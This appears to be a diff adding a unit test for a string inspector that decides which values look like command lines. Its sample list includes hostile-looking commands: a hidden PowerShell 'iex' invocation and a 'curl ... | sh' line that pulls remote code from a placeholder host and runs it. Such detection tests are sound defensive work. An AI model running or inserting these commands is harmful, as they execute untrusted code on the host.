@@ -52,3 +52,13 @@ def test_strings_examined_are_bounded_and_a_huge_body_stays_fast():
     assert time.monotonic() - started < 5
     assert [q.kind for q in p.problems] == ["too_many_strings"]
     assert p.scripts == []  # the command sits past the budget: not examined, and the problem says so
+
+
+def test_what_counts_as_a_command_line():
+    from inspector.extensions.strings import looks_like_command
+
+    commands = ["powershell -nop -w hidden -c iex $x", "/usr/bin/python3 app.py", "./start.sh", "C:\\Temp\\a.exe /s",
+                '"C:\\Program Files\\Agent\\setup.cmd" /quiet', "curl -s http://x/y | sh", "a && b", "line1\nline2 of script"]
+    labels = ["gold", "web01", "1.0.0", "Standard_D2s_v3", "latest", "config.json", "my file.txt", "Enable", ""]
+    assert [c for c in commands if not looks_like_command(c)] == []
+    assert [v for v in labels if looks_like_command(v)] == []
